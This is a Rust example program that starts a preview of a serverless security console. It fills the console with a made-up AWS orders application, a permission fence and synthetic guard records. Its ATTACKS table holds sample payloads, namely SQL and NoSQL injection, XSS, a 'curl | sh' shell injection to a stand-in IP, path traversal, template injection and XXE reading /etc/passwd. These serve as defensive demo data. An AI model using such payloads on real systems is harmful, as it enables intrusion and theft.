//! The console with a made-up application and made-up records, to look at while working on it:
//! `cargo run -p console --example console_preview`, then open the address it prints. With an argument, it keeps making records.
#![allow(clippy::unwrap_used)]

use graph::{
    Application, Authorization, Code, Estate, Function, FunctionUrl, Part, Provider, Resource, ResourceKind, Setting,
    Trigger, TriggerKind, UrlAuth, Value,
};
use records::{
    Action, Body, CloudCall, Egress, FunctionError, HttpSummary, Invocation, Log, Match, Mode, Outcome, Record,
    Started, Verdict,
};
use source::{FileId, Span};
use std::sync::Arc;
use std::time::Duration;

fn span() -> Span {
    Span::new(FileId(0), 0, 0)
}

fn function(name: &str, runtime: &str, url: bool) -> Function {
    Function {
        name: name.into(),
        resource_type: "AWS::Serverless::Function".into(),
        span: span(),
        deployed_name: None,
        runtime: Some(Setting { value: runtime.into(), span: span() }),
        handler: None,
        code: Code::Unknown,
        environment: vec![],
        identity: Some(format!("{name}Role")),
        role: None,
        url: url.then(|| FunctionUrl { auth: UrlAuth::None, span: span() }),
        timeout: None,
        memory: None,
        layers: vec![],
        in_vpc: false,
        reserved_concurrency: None,
        dead_letter: None,
        architecture: None,
        tracing: None,
        log_group: None,
        behaviour: None,
    }
}

fn trigger(
    function: &str,
    kind: TriggerKind,
    source: Option<&str>,
    route: Option<(&str, &str)>,
    authorization: Authorization,
) -> Trigger {
    Trigger {
        function: function.into(),
        name: "Event".into(),
        kind,
        source: source.map(|name| Value::part(Part::Ref(name.into()))),
        authorization: kind.is_http().then_some(authorization),
        method: route.map(|(method, _)| method.into()),
        path: route.map(|(_, path)| path.into()),
        body_schema: None,
        report_batch_item_failures: false,
        filter: None,
        span: span(),
    }
}

fn resource(name: &str, kind: ResourceKind) -> Resource {
    Resource {
        name: name.into(),
        resource_type: String::new(),
        kind,
        span: span(),
        deployed_name: None,
        properties: serde_json::Value::Null,
        property_spans: vec![],
        policy: vec![],
    }
}

fn estate() -> Estate {
    let open = Authorization::None;
    let staff = || Authorization::Jwt("Staff".into());
    Estate {
        applications: vec![Application {
            name: "orders".into(),
            template: FileId(0),
            provider: Provider::Aws,
            format: graph::Format::Sam,
            functions: vec![
                function("CreateOrder", "python3.13", false),
                function("GetOrder", "nodejs22.x", true),
                function("ChargeOrder", "python3.9", false),
                function("ImportCatalog", "python3.13", false),
                function("SendReceipt", "nodejs22.x", false),
                function("NightlyReport", "python3.13", false),
                function("DeviceStatus", "python3.13", false),
            ],
            triggers: vec![
                trigger("CreateOrder", TriggerKind::HttpApi, Some("ShopApi"), Some(("POST", "/orders")), open.clone()),
                trigger("GetOrder", TriggerKind::HttpApi, Some("ShopApi"), Some(("GET", "/orders/{id}")), open.clone()),
                trigger("GetOrder", TriggerKind::HttpApi, Some("ShopApi"), Some(("GET", "/orders")), open.clone()),
                trigger("GetOrder", TriggerKind::HttpApi, Some("ShopApi"), Some(("GET", "/admin/orders")), staff()),
                trigger("ChargeOrder", TriggerKind::Sqs, Some("OrderPaid"), None, open.clone()),
                trigger("ImportCatalog", TriggerKind::S3, Some("CatalogBucket"), None, open.clone()),
                trigger("SendReceipt", TriggerKind::Sns, Some("OrderEvents"), None, open.clone()),
                trigger("NightlyReport", TriggerKind::Schedule, None, None, open.clone()),
                trigger("DeviceStatus", TriggerKind::Iot, None, None, open),
            ],
            identities: vec![],
            resources: vec![
                resource("OrdersTable", ResourceKind::Table),
                resource("ProductsTable", ResourceKind::Table),
                resource("OrderPaid", ResourceKind::Queue),
                resource("CatalogBucket", ResourceKind::Bucket),
                resource("OrderEvents", ResourceKind::Topic),
            ],
        }],
    }
}

fn fence() -> fence::Fence {
    serde_json::from_value(serde_json::json!({
        "version": 1,
        "functions": {
            "CreateOrder": {
                "code": "src/create_order/app.py#handler",
                "events": [{ "source": "http-api", "method": "POST", "path": "/orders", "authorization": "none", "body": { "$ref": "#/schemas/Order" }, "because": "template.yaml:52" }],
                "permissions": [
                    { "allow": "dynamodb:PutItem", "on": "OrdersTable", "because": "src/create_order/app.py:31" },
                    { "allow": "sqs:SendMessage", "on": "OrderPaid", "because": "src/create_order/app.py:44" },
                    { "allow": "dynamodb:GetItem", "on": "ProductsTable", "because": "src/create_order/prices.py:12" },
                    { "allow": "s3:PutObject", "on": "CatalogBucket", "because": "src/create_order/app.py:71" },
                    { "deny": "dynamodb:DeleteItem", "on": "OrdersTable", "because": "orders are never deleted, only cancelled" },
                ],
                "network": [
                    { "host": "api.stripe.com", "port": 443, "because": "src/create_order/payment.py:9" },
                    { "host": "fraud.partner.example", "port": 443, "because": "src/create_order/payment.py:31" },
                ],
                "invokes": ["SendReceipt"],
                "unresolved": [{ "what": "writes to a table whose name comes from the event", "because": "src/create_order/app.py:90" }],
            },
            "GetOrder": {
                "mode": "observe",
                "events": [{ "source": "http-api", "method": "GET", "path": "/orders/{id}" }],
                "permissions": [{ "allow": "dynamodb:GetItem", "on": "OrdersTable" }, { "allow": "dynamodb:PartiQLSelect", "on": "*" }],
            },
            "ChargeOrder": {
                "events": [{ "source": "sqs", "queue": "OrderPaid" }],
                "permissions": [{ "allow": "dynamodb:UpdateItem", "on": "OrdersTable" }, { "allow": "sns:Publish", "on": "OrderEvents" }],
                "network": [{ "host": "api.stripe.com", "port": 443 }],
            },
            "ImportCatalog": { "events": [{ "source": "s3" }], "permissions": [{ "allow": "s3:GetObject", "on": "CatalogBucket" }, { "allow": "dynamodb:PutItem", "on": "ProductsTable" }] },
            "SendReceipt": { "events": [{ "source": "sns" }], "permissions": [{ "allow": "ses:SendEmail", "on": "*" }] },
            "NightlyReport": { "events": [{ "source": "schedule" }], "permissions": [{ "allow": "dynamodb:Scan", "on": "OrdersTable" }, { "allow": "s3:PutObject", "on": "CatalogBucket" }], "network": [{ "host": "hooks.slack.com", "port": 443 }] },
            "DeviceStatus": { "events": [{ "source": "iot" }], "permissions": [{ "allow": "dynamodb:UpdateItem", "on": "ProductsTable" }] },
        },
    }))
    .unwrap()
}

/// Function, trigger, what the guard does, family, rule, field, excerpt, weakness.
type Attack = (&'static str, &'static str, Action, &'static str, &'static str, &'static str, &'static str, u16);

/// The attacks that come by, one after the other.
const ATTACKS: &[Attack] = &[
    (
        "CreateOrder",
        "http-api",
        Action::Refuse,
        "sql-injection",
        "sql-tautology",
        "body.customer.note",
        "' OR '1'='1' --",
        89,
    ),
    (
        "CreateOrder",
        "http-api",
        Action::Refuse,
        "xss",
        "html-script",
        "body.items[2].engraving",
        "<script src=//203.0.113.66/x.js></script>",
        79,
    ),
    (
        "ChargeOrder",
        "sqs",
        Action::SetAside,
        "shell-injection",
        "shell-substitution",
        "Records[3].body→email",
        "x@y.z; curl -s 203.0.113.66/a | sh",
        78,
    ),
    (
        "ImportCatalog",
        "s3",
        Action::Drop,
        "path-traversal",
        "path-dot-dot",
        "Records[0].s3.object.key",
        "prices/../../../../var/task/app.py",
        22,
    ),
    (
        "GetOrder",
        "http-api",
        Action::WouldRefuse,
        "nosql-injection",
        "nosql-operator",
        "queryStringParameters.email",
        "{\"$ne\": null}",
        943,
    ),
    (
        "DeviceStatus",
        "iot",
        Action::Drop,
        "template-injection",
        "template-braces",
        "payload.name",
        "{{ config.__class__.__init__.__globals__['os'].popen('id') }}",
        1336,
    ),
    (
        "SendReceipt",
        "sns",
        Action::Drop,
        "xxe",
        "xml-external-entity",
        "Records[0].Sns.Message→xml",
        "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>\u{202e}\u{0}",
        611,
    ),
];

/// What happens in one step: honest traffic, and now and then an attack.
fn happens(step: i64, time: i64) -> Vec<Record> {
    let mut records = Vec::new();
    let honest = [
        ("CreateOrder", "http-api", "POST", "/orders"),
        ("GetOrder", "http-api", "GET", "/orders/7f3a"),
        ("ChargeOrder", "sqs", "", ""),
        ("GetOrder", "http-api", "GET", "/orders"),
    ];
    let (name, kind, method, path) = honest[usize::try_from(step).unwrap() % honest.len()];
    let request = format!("{:08x}-4b1c-4f7e", 0x9e37_79b9_i64.wrapping_mul(step + 1) & 0xffff_ffff);
    let mut add = |function: &str, offset: i64, body: Body| {
        records.push(Record::new(time + offset, function, body).with_request_id(request.clone()))
    };
    let http = (!method.is_empty()).then(|| HttpSummary { method: method.into(), path: path.into(), status: 200 });
    let source = if http.is_some() { "198.51.100.23" } else { "arn:aws:sqs:eu-west-1:000000000000:shop-OrderPaid-1AB" };
    let duration = 4000 + (step * 7919) % 38_000;
    add(
        name,
        0,
        Invocation {
            trigger: kind.into(),
            outcome: if step % 23 == 9 { Outcome::Error } else { Outcome::Ok },
            duration_us: u64::try_from(duration).unwrap(),
            guard_us: 90 + u64::try_from(step % 40).unwrap(),
            bytes_in: 800,
            bytes_out: 200,
            cold: step % 31 == 0,
            source: Some(source.into()),
            http,
        }
        .into(),
    );
    if name == "CreateOrder" {
        for (service, action, resource) in
            [("dynamodb", "dynamodb:PutItem", "shop-OrdersTable-X1"), ("sqs", "sqs:SendMessage", "OrderPaid")]
        {
            add(
                name,
                1,
                CloudCall {
                    service: service.into(),
                    action: action.into(),
                    resource: Some(resource.replace("shop-OrdersTable-X1", "OrdersTable")),
                    allowed: true,
                    in_fence: true,
                    status: Some(200),
                    because: None,
                }
                .into(),
            );
        }
        add(
            name,
            2,
            Egress { host: "api.stripe.com".into(), port: 443, allowed: true, in_fence: true, because: None }.into(),
        );
        add(
            name,
            3,
            Log { stream: "stdout".into(), line: format!("order 7f{step:02x} accepted, 3 items, 41.90 EUR") }.into(),
        );
    }
    if step % 23 == 9 {
        add(
            name,
            3,
            FunctionError {
                kind: "ConditionalCheckFailedException".into(),
                message: "the order exists already".into(),
                trace: vec!["app.py:31 in handler".into(), "botocore/client.py:1023 in _make_api_call".into()],
            }
            .into(),
        );
        add(name, 4, Log { stream: "stderr".into(), line: "[WARNING] retrying once <after> a conflict".into() }.into());
    }
    if step % 41 == 20 {
        add(
            "CreateOrder",
            5,
            CloudCall {
                service: "iam".into(),
                action: "iam:ListRoles".into(),
                allowed: false,
                in_fence: false,
                because: Some("no line in the fence".into()),
                ..CloudCall::default()
            }
            .into(),
        );
        add(
            "CreateOrder",
            6,
            Egress {
                host: "203.0.113.66".into(),
                port: 4444,
                allowed: false,
                in_fence: false,
                because: Some("no line in the fence".into()),
            }
            .into(),
        );
    }
    if step % 6 == 2 {
        let (function, kind, action, family, rule, field, excerpt, cwe) =
            ATTACKS[usize::try_from(step / 6).unwrap() % ATTACKS.len()];
        let blocked = action != Action::WouldRefuse;
        add(
            function,
            7,
            Verdict {
                mode: if blocked { Mode::Block } else { Mode::Observe },
                action,
                trigger: kind.into(),
                incident: Some(format!("rf-{:06x}", 0x51_2f3a + step * 977)),
                reason: format!("{family} in {field}"),
                matches: vec![Match {
                    rule: rule.into(),
                    family: family.into(),
                    severity: "critical".into(),
                    field: field.into(),
                    excerpt: excerpt.into(),
                    message: format!("what looks like {family}"),
                    cwe: Some(cwe),
                }],
                records_total: if kind == "sqs" { 10 } else { 1 },
                records_refused: 1,
                source: Some(
                    if kind == "http-api" { "203.0.113.9" } else { "arn:aws:sqs:eu-west-1:000000000000:OrderPaid" }
                        .into(),
                ),
            }
            .into(),
        );
        if blocked {
            let http = (kind == "http-api").then(|| HttpSummary {
                method: "POST".into(),
                path: "/orders".into(),
                status: 403,
            });
            add(
                function,
                8,
                Invocation {
                    trigger: kind.into(),
                    outcome: Outcome::Refused,
                    duration_us: 240,
                    guard_us: 160,
                    bytes_in: 900,
                    bytes_out: 80,
                    cold: false,
                    source: Some("203.0.113.9".into()),
                    http,
                }
                .into(),
            );
        }
    }
    records
}

#[tokio::main(flavor = "current_thread")]
async fn main() {
    let folder = tempfile::tempdir().unwrap();
    let lake = Arc::new(lake::Lake::open(folder.path()).unwrap());
    let reader = lake.reader();
    let watch = watch::Watch::start(lake, watch::Options::default());
    let handle = watch.handle();
    let now = records::now_ms();
    let mut past = Vec::new();
    for (_, function) in estate().functions() {
        let body = Started {
            runtime: function.runtime.as_ref().unwrap().value.clone(),
            tier: "user-space".into(),
            pid: Some(7),
            init_us: 91_000,
        };
        past.push(Record::new(now - 700_000, function.name.as_str(), body));
    }
    past.extend((0..170).flat_map(|step| happens(step, now - 680_000 + step * 4000)));
    handle.store(past).await.unwrap();

    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    println!("http://{}/", listener.local_addr().unwrap());
    if std::env::args().len() > 1 {
        tokio::spawn(async move {
            for step in 170..100_000 {
                tokio::time::sleep(Duration::from_millis(700)).await;
                handle.store(happens(step, records::now_ms())).await.unwrap();
            }
        });
    }
    let state =
        console::State { name: "orders".into(), estate: estate(), fence: fence(), watch: watch.handle(), lake: reader };
    console::serve(listener, state, std::future::pending()).await.unwrap();
}
